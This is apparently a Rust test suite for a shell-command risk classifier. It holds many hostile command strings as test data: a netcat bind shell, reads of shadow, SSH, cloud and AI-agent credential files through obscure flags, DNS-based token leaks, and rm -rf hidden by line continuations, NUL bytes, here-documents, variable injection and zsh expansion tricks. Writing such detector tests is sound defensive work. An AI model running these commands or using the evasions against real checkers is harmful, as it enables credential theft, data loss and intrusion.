//! What a reading says, beyond its risk.

use umbo_command::{Direction, Given, Kind, Risk, Shell, read};

fn bash(command: &str) -> umbo_command::Reading {
    read(command, Shell::Bash)
}

#[test]
fn a_forced_rm_inside_xargs_is_dangerous() {
    let reading = bash("find . -name '*.o' | xargs rm -f");
    assert_eq!(reading.risk, Risk::Dangerous);
    assert!(reading.commands.iter().any(|c| c.via == ["xargs"] && c.argv[0].text == "rm"));
}

#[test]
fn effects_carry_literal_targets() {
    let reading = bash("cat a.txt > b.txt");
    let target =
        |kind| reading.effects.iter().find(|e| e.kind == kind).and_then(|e| e.target.clone());
    assert_eq!(target(Kind::Read).as_deref(), Some("a.txt"));
    assert_eq!(target(Kind::Overwrite).as_deref(), Some("b.txt"));
}

#[test]
fn a_fetch_names_its_host() {
    let reading = bash("curl -s https://api.example.com/v1 | jq .");
    let effect = reading.effects.iter().find(|e| e.kind == Kind::Network).unwrap();
    assert_eq!(effect.direction, Some(Direction::In));
    assert_eq!(effect.target.as_deref(), Some("api.example.com"));
}

#[test]
fn who_can_reach_a_server_depends_on_its_address() {
    let opens = |command: &str| bash(command).reason.contains("lets other machines reach this one");
    for command in [
        "python3 -u -m http.server 18733 --bind 127.0.0.1",
        "python3 -m http.server -b localhost -d dist 8000",
        "python3 -m http.server --bind=::1",
        "php -S localhost:8000",
        "php -d memory_limit=1G -S 127.0.0.1:8000 -t public",
        "php -S '[::1]:8000'",
        "nc -l 127.0.0.1 9000",
        "nc -lk -s 127.0.0.1 -p 9000",
        "nc 127.0.0.1 9000",
        "vite --host localhost",
        "vite --host 127.0.0.1 --port 3000",
        "flask run --host=127.0.0.1",
        "uvicorn app:app --host ::1",
        "vite build",
        "node server.js --host localhost",
    ] {
        assert!(!opens(command), "{command}: {}", bash(command).reason);
        let risk = bash(command).risk;
        assert!(risk != Risk::Dangerous && risk != Risk::ReadOnly, "{command}: {risk:?}");
    }
    for command in [
        "python3 -m http.server",
        "python3 -m http.server --bind 0.0.0.0",
        "python3 -m http.server --bind 127.0.0.1 --bind 0.0.0.0",
        "python3 -m http.server --bind localhost.example.com",
        "python3 -m http.server --bind 127.0.0.1 $MORE",
        "php -S 0.0.0.0:8000",
        "php -t public -S 0.0.0.0:8000",
        "php -S localhost.example.com:8000",
        "nc -l 9000",
        "nc -l 0.0.0.0 9000",
        "nc -l -s 0.0.0.0 -p 9000 127.0.0.1 1",
        "nc -l -e /bin/sh 127.0.0.1 9000",
        "nc -x proxy.example.com:1080 127.0.0.1 9000",
        "vite --host",
        "vite --host --port 3000",
        "vite --host 0.0.0.0",
        "npx vite --host",
        "next dev -H 0.0.0.0",
        "next dev -H 192.168.1.7",
        "flask run --host 0.0.0.0",
        "uvicorn app:app --host=::",
        "python3 -m uvicorn app:app --host 0.0.0.0",
        "gunicorn -b 0.0.0.0:8000 app",
        "python3 manage.py runserver 0.0.0.0:8000",
        "node server.js --host 0.0.0.0",
    ] {
        assert!(opens(command), "{command}: {}", bash(command).reason);
        assert_eq!(bash(command).risk, Risk::Dangerous, "{command}");
    }
    assert_eq!(bash("php script.php -S x").risk, Risk::Unknown);
    assert_eq!(bash("nc -l 127.0.0.1 9000 | sh").risk, Risk::Dangerous);
}

#[test]
fn common_fs_is_said_only_when_nothing_else_changes() {
    assert!(bash("mkdir -p a && cp x a/ && ls a").common_fs);
    assert!(!bash("mkdir a && echo x > a/b").common_fs);
    assert!(!bash("mkdir a && rm b").common_fs);
    assert!(!bash("ls").common_fs);
    assert!(!bash("mv x /etc/y").common_fs);
}

#[test]
fn a_secret_that_is_read_is_a_credential_effect() {
    for command in
        ["cat .env", "cat ~/.ssh/id_rsa", "grep KEY .env.local", "cp ~/.aws/credentials /tmp"]
    {
        assert!(bash(command).effects.iter().any(|e| e.kind == Kind::Credential), "{command}");
    }
    assert_eq!(bash("cat .env.example").risk, Risk::ReadOnly);
}

#[test]
fn the_answer_serialises_under_its_published_names() {
    let json = serde_json::to_value(bash("git status")).unwrap();
    let mut names: Vec<&str> = json.as_object().unwrap().keys().map(String::as_str).collect();
    names.sort_unstable();
    assert_eq!(names, ["commands", "common_fs", "effects", "exact", "matched", "reason", "risk"]);
    assert_eq!(json["risk"], "read_only");
}

#[test]
fn an_unparsable_text_still_lists_what_it_may_run() {
    let reading = bash("echo ok; git push --force (");
    assert!(!reading.exact);
    assert_eq!(reading.risk, Risk::Dangerous);
    assert!(reading.possible.iter().any(|argv| argv.starts_with(&["git".into(), "push".into()])));
}

#[test]
fn a_guessed_command_is_possible_but_not_exact() {
    let reading = bash("x=push; git $x");
    assert!(reading.possible.iter().any(|argv| argv == &["git", "push"]));
    assert_ne!(reading.risk, Risk::ReadOnly);
}

#[test]
fn words_say_why_they_are_not_literal() {
    use umbo_command::Expansion;
    let reading = bash("ls $x *.rs ~/a {b,c} $(pwd) 'lit eral'");
    let words = &reading.commands.iter().find(|c| c.argv[0].text == "ls").unwrap().argv;
    assert_eq!(words[1].expansions, [Expansion::Variable]);
    assert_eq!(words[2].expansions, [Expansion::Glob]);
    assert_eq!(words[3].expansions, [Expansion::Tilde]);
    assert_eq!(words[4].expansions, [Expansion::Brace]);
    assert_eq!(words[5].expansions, [Expansion::Substitution]);
    assert_eq!(words[6].exact(), Some("lit eral"));
}

#[test]
fn nu_has_a_read_only_subset() {
    for command in [
        "ls",
        "ls | where size > 1kb",
        "open Cargo.toml | get package.name",
        "ps | sort-by cpu | first 5",
        "^git status",
    ] {
        assert_eq!(read(command, Shell::Nu).risk, Risk::ReadOnly, "{command}");
    }
    for (command, risk) in [
        ("rm -r x", Risk::Dangerous),
        ("'a' | save b.txt", Risk::Mutate),
        ("ls > x", Risk::Unknown),
        ("ls o> x", Risk::Unknown),
        ("ls | each { |f| rm $f.name }", Risk::Unknown),
        ("^rm -rf x", Risk::Dangerous),
        ("nu -c 'rm -rf x'", Risk::Unknown),
    ] {
        assert!(read(command, Shell::Nu).risk >= risk, "{command}");
    }
}

#[test]
fn fish_and_powershell_are_unknown_unless_plain() {
    assert_eq!(read("ls -la | head", Shell::Fish).risk, Risk::ReadOnly);
    assert_eq!(read("for f in *; rm -rf $f; end", Shell::Fish).risk, Risk::Dangerous);
    assert_eq!(read("set -x PATH /tmp; ls", Shell::Fish).risk, Risk::Unknown);
    assert_eq!(read("Get-ChildItem -Recurse", Shell::PowerShell).risk, Risk::ReadOnly);
    assert_eq!(read("Remove-Item -Recurse x", Shell::PowerShell).risk, Risk::Dangerous);
    assert_eq!(
        read("Get-ChildItem | ForEach-Object { $_ }", Shell::PowerShell).risk,
        Risk::Unknown
    );
}

#[test]
fn sh_is_read_for_all_its_implementations() {
    assert_eq!(read("((rm -x))", Shell::Posix).risk, Risk::Unknown);
    assert_eq!(read("[[ a || reboot ]]", Shell::Posix).risk, Risk::Dangerous);
    assert_eq!(read("ls | wc -l", Shell::Posix).risk, Risk::ReadOnly);
}

#[test]
fn what_zsh_reads_differently_is_not_read_only_in_zsh() {
    for command in [
        "echo $x['$(frob)']",
        "echo \"$x[1]\"",
        "x='-o out'; sort $=x y",
        "echo $~x",
        "functions[ls]=frob; ls",
        "aliases[ls]=frob; ls",
        "commands[ls]=/tmp/x; ls",
        "chpwd_functions=(frob); cd x",
        "read -t 'a[$(frob)]' x",
        "printf %d 'a[$(frob)]'",
        "COLUMNS='a[$(frob)]' ls",
        "echo *(e:frob:)",
        "echo =ls",
    ] {
        assert_ne!(read(command, Shell::Zsh).risk, Risk::ReadOnly, "{command}");
    }
    for command in ["echo $x", "ls $HOME", "for f in *.rs; do wc -l $f; done"] {
        assert_eq!(read(command, Shell::Zsh).risk, Risk::ReadOnly, "{command}");
    }
}

#[test]
fn words_that_are_no_commands_of_nu_are_programs() {
    for command in ["json x", "md x", "exists x", "xml x"] {
        assert_eq!(read(command, Shell::Nu).risk, Risk::Unknown, "{command}");
    }
}

#[test]
fn what_is_assigned_to_a_number_of_the_shell_is_evaluated() {
    for name in ["RANDOM", "SRANDOM", "HISTCMD", "SECONDS", "OPTIND"] {
        for text in [
            format!("{name}='a[$(frob)]'"),
            format!("read {name} < file"),
            format!("for {name} in 'a[$(frob)]'; do :; done"),
            format!("printf -v {name} %s x"),
        ] {
            assert!(bash(&text).risk >= Risk::Unknown, "{text}");
        }
    }
    assert_eq!(bash("SECONDS=0; ls").risk, Risk::ReadOnly);
}

#[test]
fn what_is_fed_to_a_shell_or_interpreter_is_run() {
    let fed = |command: &str, input: &str| {
        let given = Given { input: Some(input), ..Given::default() };
        umbo_command::read_given(command, Shell::Posix, given)
    };
    for command in [
        "sh",
        "bash",
        "bash -s",
        "sh -s x",
        "sh -",
        "env sh",
        "sudo -n bash",
        "timeout 5 sh",
        "docker exec -i c sh",
        "cat | sh",
        "tee log | bash",
        "grep . | sh",
        "x=$(sh)",
        "(sh)",
        "sh; ls",
        "while read -r l; do eval \"$l\"; done",
        "while read -r l; do $l; done",
        "xargs -I{} sh -c '{}'",
        "awk '{system($0)}'",
        "perl -ne 'system $_'",
        "sh /dev/stdin",
        ". /dev/stdin",
        "source /proc/self/fd/0",
        "eval \"$(cat)\"",
        "bash -c \"$(cat)\"",
        "sh <&0",
        "make -f -",
        "ssh host",
        "frobnicate",
        "./run",
    ] {
        assert_eq!(fed(command, "rm -rf x\n").risk, Risk::Dangerous, "{command}");
        assert!(fed(command, "ls\n").risk >= Risk::Unknown, "{command}");
    }
    for command in ["python3", "python3 -", "node", "perl", "ruby", "deno run -"] {
        let code = "import shutil; shutil.rmtree('x')";
        assert_eq!(fed(command, code).risk, Risk::Dangerous, "{command}");
    }
    for command in ["psql", "sqlite3 a.db", "mysql x"] {
        assert_eq!(fed(command, "drop table x;").risk, Risk::Dangerous, "{command}");
        assert_eq!(fed(command, "select 1;").risk, Risk::Unknown, "{command}");
    }
    assert_eq!(fed("redis-cli", "flushall\n").risk, Risk::Dangerous);
    for command in ["wc -l", "sort", "grep x", "cat", "jq .", "head"] {
        assert_eq!(fed(command, "rm -rf x").risk, Risk::ReadOnly, "{command}");
    }
    assert!(fed("sh", "ls").runs_input && !fed("wc", "ls").runs_input);
}

#[test]
fn no_line_end_and_no_zero_byte_hides_a_command() {
    for text in [
        "r\\\nm -rf x",
        "rm\\\n -rf x",
        "bash -c 'r\\\nm -rf x'",
        "sh <<E\nr\\\nm -rf x\nE",
        "echo 'a\\\nb'; r\\\nm -rf x",
    ] {
        assert_eq!(bash(text).risk, Risk::Dangerous, "{text:?}");
    }
    for input in ["r\0m -rf x", "r\\\nm -rf x"] {
        let given = Given { input: Some(input), ..Given::default() };
        let reading = umbo_command::read_given("bash", Shell::Posix, given);
        assert_eq!(reading.risk, Risk::Dangerous, "{input:?}");
    }
    assert_eq!(bash("l\\\ns").risk, Risk::Unknown);
}

#[test]
fn a_here_document_with_variables_is_run_all_the_same() {
    for text in [
        "bash <<E\nrm -rf $X\nE",
        "bash <<E\nrm -rf \\$X\nE",
        "ssh host <<E\nls\nrm -rf `pwd`/x\nE",
        "python3 <<E\nimport shutil\nshutil.rmtree('$X')\nE",
        "psql <<E\ndrop table $X;\nE",
        "bash <<< \"rm -rf $X\"",
    ] {
        assert_eq!(bash(text).risk, Risk::Dangerous, "{text:?}");
    }
    assert_eq!(bash("cat > f <<E\nrm -rf $X\nE").risk, Risk::Mutate);
    assert_eq!(bash("cat <<E\nrm -rf $X\nE").risk, Risk::ReadOnly);
    for text in ["python3 <<E\nprint('$X')\nE", "bash <<E\nls $X\nE", "psql <<E\nselect $X;\nE"] {
        assert_eq!(bash(text).risk, Risk::Unknown, "{text:?}");
    }
}

#[test]
fn variables_that_are_given_are_as_if_they_were_set() {
    let given = |command: &str, name: &str, value: &str| {
        let variables = [(name.to_owned(), value.to_owned())];
        let given = Given { variables: &variables, ..Given::default() };
        umbo_command::read_given(command, Shell::Posix, given)
    };
    for command in ["$X", "eval \"$X\"", "sh -c \"$X\"", "bash -c '$X'"] {
        assert_eq!(given(command, "X", "rm -rf x").risk, Risk::Dangerous, "{command}");
    }
    assert_eq!(given("ls", "PAGER", "rm -rf x").risk, Risk::Dangerous);
    assert_eq!(given("ls", "BASH_FUNC_ls%%", "() { rm -rf x; }").risk, Risk::Dangerous);
    assert_eq!(given("ls", "PATH", "./bin").risk, Risk::Unknown);
    assert_eq!(given("ls", "CI", "1").risk, Risk::ReadOnly);
    assert_eq!(given("ls \"$X\"", "X", "rm -rf x").risk, Risk::ReadOnly);
    assert_eq!(bash("env X='rm -rf x' sh -c '$X'").risk, Risk::Dangerous);
}

#[test]
fn a_path_only_known_at_run_time_is_guessed() {
    let guess = |text: &str| -> Vec<String> {
        let effects = bash(text).effects;
        effects.into_iter().filter_map(|effect| effect.guess).collect()
    };
    assert_eq!(guess("cp a $HOME/x"), ["$HOME/x"]);
    assert_eq!(guess("echo > \"$D/x\""), ["$D/x"]);
    assert_eq!(guess("x=/; rm -rf $x"), ["/"]);
    assert_eq!(guess("touch ../*.txt"), ["../*.txt"]);
    assert_eq!(guess("find .. -name x -exec touch {} +"), ["../…"]);
    assert!(guess("cp a b").is_empty());
}

#[test]
fn what_is_typed_is_never_certain_and_a_danger_in_it_is_one() {
    for text in ["ls\n", "y\n", "print(1)\n", ""] {
        assert_eq!(umbo_command::read_typed(text).risk, Risk::Unknown, "{text:?}");
    }
    for text in [
        "rm -rf x\n",
        "ls # ; rm -rf x\n",
        "!rm -rf x\n",
        ":!rm -rf x\r",
        "import os; os.system('rm -rf x')\n",
        "shutil.rmtree('x')\n",
        "drop table users;\n",
        "delete from users;",
        "git push --force\n",
    ] {
        assert_eq!(umbo_command::read_typed(text).risk, Risk::Dangerous, "{text:?}");
    }
}

#[test]
fn an_empty_command_is_unknown() {
    for text in ["", "  ", "\n"] {
        assert_eq!(bash(text).risk, Risk::Unknown);
    }
}

#[test]
fn a_secret_is_seen_wherever_a_command_names_it() {
    for command in [
        "grep -vf/root/.ssh/id_rsa /dev/null",
        "grep --file=/root/.ssh/id_rsa x",
        "grep -f .env x",
        "diff --from-file=/etc/shadow x",
        "wc --files0-from=/etc/shadow",
        "xargs -a /etc/shadow echo",
        "file -f /etc/shadow",
        "git config -f ~/.netrc -l",
        "git cat-file blob HEAD:.env",
        "sed -n '$r /etc/shadow' x",
        "sed '1R/root/.aws/credentials' x",
        "awk 'BEGIN{ARGV[1]=\"/etc/shadow\";ARGC=2}{print}'",
        "jq -n 'import \"/root/.codex/auth\" as $a; $a'",
        "duckdb -c \"select * from '/root/.codex/auth.json'\"",
        "psql -c 'select * from pg_shadow'",
        "mysql -e 'select authentication_string from mysql.user'",
        "ps auxe",
        "ps e -p 1",
        "pulumi stack output --show-secrets",
        "cat /dev/sda",
        "strings /dev/nvme0n1p1",
        "xxd < /dev/mem",
        "grep -a key /proc/kcore",
        "mc alias list",
    ] {
        let reading = bash(command);
        let shown = reading.effects.iter().any(|effect| effect.kind == Kind::Credential);
        assert!(shown && reading.risk == Risk::Dangerous, "{command}: {}", reading.reason);
    }
    for command in [
        "grep -f words.txt x",
        "grep /dev/sda /proc/mounts",
        "grep --exclude=.env -r x .",
        "df -h | grep /dev/sd",
        "ps aux",
        "ps -ef",
        "ps -u pete",
        "ps axo pid,user",
        "mysql -e 'select user, host from mysql.user'",
        "file -s /dev/sda1",
        "sed 'r header.txt' x",
        "awk '{print \"/etc/hosts\"}' x",
        "lsblk /dev/sda",
    ] {
        assert_eq!(bash(command).risk, Risk::ReadOnly, "{command}: {}", bash(command).reason);
    }
}

#[test]
fn a_name_that_is_looked_up_leaves_the_machine() {
    for command in [
        "getent hosts $(cat f).example.com",
        "getent ahosts \"$TOKEN.example.com\"",
        "redis-cli -h example.com ping \"$(cat f)\"",
    ] {
        assert!(bash(command).risk >= Risk::Unknown, "{command}: {}", bash(command).reason);
    }
    assert_eq!(bash("getent hosts example.com").risk, Risk::ReadOnly);
    assert_eq!(bash("getent passwd root").risk, Risk::ReadOnly);
}

#[test]
fn help_that_loads_the_project_is_not_only_help() {
    for command in ["pytest --help", "pytest -h", "rails --version", "tox --help", "mix --help"] {
        assert!(bash(command).risk > Risk::ReadOnly, "{command}");
    }
    assert_eq!(bash("pytest --version").risk, Risk::ReadOnly);
}

#[test]
fn a_wrapper_is_what_it_runs() {
    for command in [
        "script -q /dev/null ls -l",
        "rtk git log --oneline",
        "rtk proxy ls",
        "env -S 'A=b ls -l'",
        "auth0 universal-login prompts show login",
        "gcloud app services describe default",
    ] {
        assert_eq!(bash(command).risk, Risk::ReadOnly, "{command}: {}", bash(command).reason);
    }
    for command in [
        "script -q /dev/null",
        "script -q log ls",
        "script -qc 'rm x' /dev/null",
        "script -q /dev/null rm x",
        "rtk rm x",
        "rtk test ls",
        "rtk init",
        "rtk git push",
        "env -S 'touch x'",
        "env -S 'ls ${X}'",
    ] {
        assert!(bash(command).risk > Risk::ReadOnly, "{command}: {}", bash(command).reason);
    }
}
